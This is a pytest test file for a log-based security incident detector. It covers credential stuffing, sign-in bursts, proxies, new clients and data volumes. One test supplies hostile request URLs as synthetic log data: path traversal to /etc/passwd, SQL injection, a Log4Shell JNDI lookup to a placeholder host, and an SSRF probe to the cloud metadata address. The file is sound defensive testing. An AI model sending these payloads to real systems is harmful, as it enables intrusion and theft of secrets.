"""Sign-ins, attacks and volumes: what is an incident, what is an ordinary day, and what a log cannot tell."""

from __future__ import annotations

from pathlib import Path

import pytest
from synthetic import finding_of, healthy, request_line, time_at

from incident_kit.model.finding import Figure, Verdict

BURGLAR = "192.0.2.66"
LOGIN = "POST /api/auth/login"


def ordinary(minutes: int = 20) -> list[str]:
    """Forty customers who sign in, and mistype now and then."""
    lines = healthy(minutes)
    for place in range(minutes * 4):
        lines.append(
            request_line(place / 4, LOGIN, status=401 if place % 9 == 0 else 200, client=f"198.51.100.{place % 40}")
        )
    return lines


def stuffing(n: int = 60, since: float = 10, client: str = BURGLAR) -> list[str]:
    return [request_line(since + place / 60, LOGIN, status=401, client=client) for place in range(n)]


@pytest.mark.parametrize(
    "symptom", ["success_after_refusals", "guessing", "sign_in_burst", "attacks_answered", "volumes"]
)
def test_an_ordinary_day_is_ruled_out(tmp_path: Path, symptom: str) -> None:
    assert finding_of(tmp_path / "log", f"security_incident.{symptom}", ordinary()).verdict is Verdict.RULED_OUT


@pytest.mark.parametrize("symptom", ["guessing", "sign_in_burst"])
def test_many_refusals_from_one_address_are_named(tmp_path: Path, symptom: str) -> None:
    finding = finding_of(tmp_path / "log", f"security_incident.{symptom}", [*ordinary(), *stuffing()])
    assert finding.verdict is Verdict.CONFIRMED
    assert finding.first_affected is not None
    assert time_at(9.9) <= finding.first_affected <= time_at(10.3)
    assert (BURGLAR in finding.statement) == (symptom == "guessing")


def test_a_burst_from_many_addresses_is_seen_though_none_of_them_guesses(tmp_path: Path) -> None:
    spread = [request_line(10 + place / 60, LOGIN, status=401, client=f"192.0.2.{place}") for place in range(60)]
    assert (
        finding_of(tmp_path / "log", "security_incident.sign_in_burst", [*ordinary(), *spread]).verdict
        is Verdict.CONFIRMED
    )
    assert (
        finding_of(tmp_path / "log", "security_incident.guessing", [*ordinary(), *spread]).verdict is Verdict.RULED_OUT
    )


def test_success_after_many_refusals_cites_the_line_of_the_success(tmp_path: Path) -> None:
    path = tmp_path / "log"
    finding = finding_of(
        path,
        "security_incident.success_after_refusals",
        [*ordinary(), *stuffing(), request_line(11.5, LOGIN, client=BURGLAR)],
    )
    assert finding.verdict is Verdict.CONFIRMED
    assert f"{BURGLAR} got in at 09:11:30 UTC after 60 refusals in a row" in finding.statement
    (figure,) = [citation for citation in finding.citations if isinstance(citation, Figure)]
    cited = path.read_text(encoding="utf-8").splitlines()[figure.exemplars[0].line - 1]
    assert BURGLAR in cited
    assert '"statusCode": 200' in cited


def test_behind_a_proxy_nobody_is_accused(tmp_path: Path) -> None:
    lines = [
        request_line(place / 10, LOGIN, status=401 if place % 3 else 200, client="10.0.0.1") for place in range(200)
    ]
    finding = finding_of(tmp_path / "log", "security_incident.guessing", [*healthy(20), *lines])
    assert finding.verdict is Verdict.INCONCLUSIVE
    assert "proxy" in finding.reason


def test_one_account_from_many_addresses_needs_a_log_that_names_accounts(tmp_path: Path) -> None:
    symptom = "security_incident.one_account"
    assert finding_of(tmp_path / "log", symptom, ordinary()).verdict is Verdict.NOT_CHECKED
    tried = [
        request_line(10 + place / 10, LOGIN, status=401, client=f"192.0.2.{place}", user="u17") for place in range(8)
    ]
    others = [request_line(place, LOGIN, client=f"198.51.100.{place}", user=f"u{place}") for place in range(10)]
    finding = finding_of(tmp_path / "log", symptom, [*healthy(20), *others, *tried])
    assert finding.verdict is Verdict.CONFIRMED
    assert "8 addresses" in finding.statement
    assert finding_of(tmp_path / "log", symptom, [*healthy(20), *others]).verdict is Verdict.RULED_OUT


def test_who_is_new_shows_only_over_a_day(tmp_path: Path) -> None:
    finding = finding_of(tmp_path / "log", "security_incident.new_clients", ordinary())
    assert finding.verdict is Verdict.INCONCLUSIVE
    assert "24 h or more" in finding.reason
    day = [request_line(place, LOGIN, client=f"198.51.100.{place % 60}") for place in range(1600)]
    assert finding_of(tmp_path / "log", "security_incident.new_clients", day, minutes=1600).verdict is Verdict.RULED_OUT
    crowd = [request_line(1450 + place / 2, LOGIN, client=f"192.0.2.{place}") for place in range(80)]
    assert (
        finding_of(tmp_path / "log", "security_incident.new_clients", [*day, *crowd], minutes=1600).verdict
        is Verdict.CONFIRMED
    )


@pytest.mark.parametrize(
    "url",
    [
        "/.env",
        "/api/files/..%2f..%2fetc/passwd",
        "/api/orders?q=1%27%20or%201=1",
        "/wp-login.php",
        "/api?u=${jndi:ldap://192.0.2.1/a}",
        "/api/items?id=1+union+select+password",
        "/p?u=http://169.254.169.254/latest",
    ],
)
def test_an_attack_that_is_answered_is_a_finding_and_a_refused_one_is_noise(tmp_path: Path, url: str) -> None:
    symptom = "security_incident.attacks_answered"
    answered = finding_of(
        tmp_path / "log", symptom, [*ordinary(), request_line(5, f"GET {url}", status=200, client=BURGLAR)]
    )
    assert answered.verdict is Verdict.CONFIRMED
    assert BURGLAR in answered.statement
    assert (
        finding_of(
            tmp_path / "log", symptom, [*ordinary(), request_line(5, f"GET {url}", status=500, client=BURGLAR)]
        ).verdict
        is Verdict.CONFIRMED
    )
    refused = finding_of(
        tmp_path / "log", symptom, [*ordinary(), request_line(5, f"GET {url}", status=404, client=BURGLAR)]
    )
    assert refused.verdict is Verdict.RULED_OUT
    assert "1 requests that look like attacks" in refused.statement


@pytest.mark.parametrize(
    "url",
    [
        "/api/customers?name=O%27Brien%20and%20sons",
        "/files/report..final.pdf",
        "/api/shops/union-square",
        "/api/select?x=1",
    ],
)
def test_ordinary_addresses_are_no_attacks(tmp_path: Path, url: str) -> None:
    assert (
        finding_of(
            tmp_path / "log", "security_incident.attacks_answered", [*ordinary(), request_line(5, f"GET {url}")]
        ).verdict
        is Verdict.RULED_OUT
    )


def test_one_client_that_takes_far_more_than_others_is_named(tmp_path: Path) -> None:
    taken = [
        request_line(5 + place / 60, "GET /api/invoices/export", client=BURGLAR, size_bytes=900_000)
        for place in range(60)
    ]
    finding = finding_of(tmp_path / "log", "security_incident.volumes", [*ordinary(), *taken])
    assert finding.verdict is Verdict.CONFIRMED
    assert f"{BURGLAR} got 54.0 MB" in finding.statement


def test_a_log_without_clients_cannot_tell_volumes(tmp_path: Path) -> None:
    assert (
        finding_of(
            tmp_path / "log",
            "security_incident.volumes",
            [request_line(place / 10, "GET /api/orders") for place in range(200)],
        ).verdict
        is Verdict.INCONCLUSIVE
    )
